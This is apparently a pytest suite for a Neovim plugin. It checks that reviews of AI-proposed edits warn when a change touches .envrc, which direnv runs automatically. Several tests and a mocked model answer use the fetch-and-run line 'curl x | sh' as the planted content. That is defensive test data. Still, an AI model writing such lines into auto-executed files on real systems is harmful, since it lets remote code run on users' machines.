"""A model's answer changes files that other tools run; in Neovim, each question starts with a warning."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from tests.editor.conftest import screen_editor
from tests.harness.dialogs import ask, wait_focused
from tests.harness.model_server import ModelServer
from tests.harness.runs import accept_all, configure, result, start

if TYPE_CHECKING:
    from tests.harness.editor import Editor

__all__ = ["screen_editor"]

pytestmark = pytest.mark.attack

REASON = "direnv and similar tools run it when you enter the directory"
EXECUTED = [{"path": ".envrc", "reason": REASON}]
WORDS = f"! other tools run .envrc: {REASON}"
LOUD = """
local words = ...
for _, win in ipairs(vim.api.nvim_list_wins()) do
  local buf = vim.api.nvim_win_get_buf(win)
  for _, line in ipairs(vim.api.nvim_buf_get_extmarks(buf, -1, 0, -1, { details = true })) do
    if line[4].hl_group == 'TideateDanger' then
      local text = vim.api.nvim_buf_get_text(buf, line[2], line[3], line[4].end_row, line[4].end_col, {})[1]
      if vim.trim(text):find(words, 1, true) then return line[2] end
    end
  end
end
return -1
"""


def loud_row(editor: Editor, words: str = "! other tools run .envrc") -> int:
    """Return the row of a dialog with the highlighted words, or -1."""
    return int(editor.lua(LOUD, words))


def changed(editor: Editor, text: str, hunks: list[dict[str, Any]]) -> dict[str, Any]:
    number = editor.edit(".envrc", text)
    return {
        "path": ".envrc",
        "action": "modify",
        "buffer": number,
        "before": text.removesuffix("\n"),
        "filetype": "",
        "hunks": hunks,
    }


def review(editor: Editor, *files: dict[str, Any]) -> list[str]:
    ask(editor, "review", payload={"files": list(files), "demonstration": False}, executed=EXECUTED)
    wait_focused(editor)
    editor.wait_screen("run by other tools")
    return editor.wait_screen("! other tools run this file: direnv")


@pytest.mark.parametrize("kind", ["gate", "override", "document", "plan"])
def test_a_question_begins_with_the_warning(screen_editor: Editor, kind: str) -> None:
    files = [{"action": "create", "path": ".envrc", "why": "settings"}]
    payload = {"plan": {"files": files}, "document": {"text": "# Plan\n\nwrite .envrc\n"}}.get(kind, {})
    ask(screen_editor, kind, payload=payload, executed=EXECUTED)
    wait_focused(screen_editor)
    screen_editor.wait_screen("! other tools run .envrc")
    assert loud_row(screen_editor) == 0


def test_a_review_of_the_first_line_begins_with_it(screen_editor: Editor) -> None:
    hunk = {"start": 0, "old": ["one"], "new": ["curl x | sh"]}
    screen = review(screen_editor, changed(screen_editor, "one\ntwo\n", [hunk]))
    assert "other tools run this file" in screen[1]
    assert "run by other tools" in screen[0]


def test_a_review_of_added_first_lines_begins_with_it(screen_editor: Editor) -> None:
    hunk = {"start": 0, "old": [], "new": ["curl x | sh"]}
    review(screen_editor, changed(screen_editor, "one\ntwo\n", [hunk]))
    screen = screen_editor.wait_screen("+ curl x | sh")  # its sign comes once the column for signs is open
    assert "other tools run this file" in screen[1]
    assert "+ curl x | sh" in screen[2]


def test_a_review_far_down_says_it_above_the_hunk_and_in_the_bar(screen_editor: Editor) -> None:
    lines = [f"line {number}" for number in range(300)]
    hunk = {"start": 250, "old": ["line 250"], "new": ["curl x | sh"]}
    screen = review(screen_editor, changed(screen_editor, "\n".join(lines) + "\n", [hunk]))
    at = next(index for index, line in enumerate(screen) if "other tools run this file" in line)
    assert "line 250" in screen[at + 1]
    assert "run by other tools" in screen[0]


def test_a_review_of_a_new_file_begins_with_it(screen_editor: Editor) -> None:
    hunk = {"start": 0, "old": [], "new": [f"line {number}" for number in range(100)]}
    file = {"path": ".envrc", "action": "create", "before": "", "filetype": "", "hunks": [hunk]}
    screen = review(screen_editor, file)
    assert "other tools run this file" in screen[1]


def test_a_review_of_a_moved_file_begins_with_it(screen_editor: Editor) -> None:
    file = {
        "path": "a.txt",
        "move_to": ".envrc",
        "action": "move",
        "before": "one\ntwo",
        "filetype": "",
        "hunks": [],
    }
    screen = review(screen_editor, file)
    assert "other tools run this file" in screen[1]


def test_the_file_after_another_one_is_warned_of_too(screen_editor: Editor) -> None:
    hunk = {"start": 0, "old": [], "new": ["x"]}
    plain = {"path": "a.txt", "action": "create", "before": "", "filetype": "", "hunks": [hunk]}
    run = {**plain, "path": ".envrc"}
    ask(screen_editor, "review", payload={"files": [plain, run], "demonstration": False}, executed=EXECUTED)
    wait_focused(screen_editor)
    first = screen_editor.wait_screen("a.txt")
    assert not any("other tools" in line for line in first)
    screen_editor.feed("ga")
    screen = screen_editor.wait_screen("! other tools run this file: direnv")
    assert "other tools run this file" in screen[1]


def test_a_narrow_window_still_says_it(start_editor: Any) -> None:
    editor = start_editor(ui=(40, 20))
    hunk = {"start": 0, "old": ["one"], "new": ["x"]}
    ask(
        editor,
        "review",
        payload={"files": [changed(editor, "one\n", [hunk])], "demonstration": False},
        executed=EXECUTED,
    )
    wait_focused(editor)
    screen = editor.wait_screen("! other tools run this file:")
    assert "enter the directory" in " ".join(" ".join(screen[:6]).split())


@pytest.mark.slow
def test_a_run_that_writes_it_says_so_at_its_end(screen_editor: Editor) -> None:
    editor = screen_editor
    with ModelServer() as server:
        files = [{"action": "create", "path": ".envrc", "why": "settings"}]
        server.answers("Which files have to be", {"files": files})
        server.answers("Write the new file .envrc", "```sh\ncurl x | sh\n```")
        configure(editor, server)
        (editor.cwd / "pyproject.toml").write_text("")
        editor.edit("a.txt", "a\n")
        editor.lua("require('tideate').setup({ ui = { notify = false } })")
        configure(editor, server)
        accept_all(editor)
        start(editor, "multi_file", "tidy up")
        done = result(editor, 40)
    assert done["ok"], done
    assert done["executed"] == EXECUTED
    editor.wait_screen("other tools run .envrc")
